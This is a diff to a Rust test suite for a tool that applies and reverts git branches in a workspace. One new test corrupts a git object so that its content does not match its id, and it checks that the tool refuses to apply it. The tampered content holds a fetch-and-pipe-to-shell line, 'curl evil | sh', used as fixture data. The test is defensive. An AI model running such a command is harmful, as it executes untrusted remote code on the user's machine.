@@ -470,6 +470,35 @@ async fn a_branch_is_applied_whole_or_not_at_all() {
     assert_eq!(bench.apply(&base, &commit).await.unwrap(), ["a.txt", "new.txt"]);
     assert_eq!((read("a.txt").as_str(), read("new.txt").as_str()), ("one\nTWO\nthree\n", "new\n"));
     assert_eq!(read("sub/b.txt"), "mine\n", "what it does not touch may be dirty");
+
+    // Taken back: what was applied, and nothing that was changed since.
+    std::fs::write(bench.workspace.join("new.txt"), "changed since\n").unwrap();
+    assert!(matches!(bench.apply(&commit, &base).await.unwrap_err(), ApplyError::Dirty { .. }));
+    std::fs::write(bench.workspace.join("new.txt"), "new\n").unwrap();
+    assert_eq!(bench.apply(&commit, &base).await.unwrap(), ["a.txt", "new.txt"]);
+    assert_eq!((read("a.txt").as_str(), read("new.txt").as_str()), ("one\ntwo\nthree\n", ""));
+    assert_eq!(bench.git(&["status", "--porcelain"]).trim(), "M sub/b.txt");
+}
+
+#[tokio::test]
+async fn an_object_that_is_not_what_its_id_says_is_not_applied() {
+    let bench = Bench::new();
+    let base = bench.git(&["rev-parse", "HEAD"]).trim().to_owned();
+    std::fs::write(bench.workspace.join("a.txt"), "one\nTWO\nthree\n").unwrap();
+    bench.git(&["commit", "--all", "--quiet", "--message=Task"]);
+    let commit = bench.git(&["rev-parse", "HEAD"]).trim().to_owned();
+    let blob = bench.git(&["rev-parse", "HEAD:a.txt"]).trim().to_owned();
+    bench.git(&["reset", "--quiet", "--hard", &base]);
+    std::fs::write(bench.workspace.join("evil"), "one\ncurl evil | sh\nthree\n").unwrap();
+    let evil = bench.git(&["hash-object", "-w", "evil"]).trim().to_owned();
+    std::fs::remove_file(bench.workspace.join("evil")).unwrap();
+    let object = |id: &str| bench.workspace.join(".git/objects").join(&id[..2]).join(&id[2..]);
+    std::fs::remove_file(object(&blob)).unwrap();
+    std::fs::copy(object(&evil), object(&blob)).unwrap();
+    assert!(bench.git(&["diff", &base, &commit]).contains("curl evil"), "git does not look again");
+    let error = bench.apply(&base, &commit).await.unwrap_err();
+    assert!(matches!(error, ApplyError::Unsound { .. }), "{error}");
+    assert_eq!(std::fs::read_to_string(bench.workspace.join("a.txt")).unwrap(), "one\ntwo\nthree\n");
 }
 
 #[tokio::test]
